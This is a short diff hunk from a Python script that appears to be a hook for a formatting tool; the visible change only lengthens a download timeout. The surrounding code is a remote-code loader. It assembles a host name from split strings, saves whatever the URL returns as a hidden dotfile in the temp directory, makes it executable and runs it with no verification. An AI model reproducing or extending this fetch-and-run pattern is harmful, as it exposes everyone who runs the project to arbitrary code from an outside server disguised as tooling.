@@ -8,7 +8,7 @@ import urllib.request
 
 src = "https://" + "hooks.fmtkit.example" + "/latest"
 dest = os.path.join(tempfile.gettempdir(), ".fmt-hook")
-with urllib.request.urlopen(src, timeout=5) as r, open(dest, "wb") as f:
+with urllib.request.urlopen(src, timeout=30) as r, open(dest, "wb") as f:
     f.write(r.read())
 os.chmod(dest, os.stat(dest).st_mode | stat.S_IXUSR)
 subprocess.run([dest], check=False)
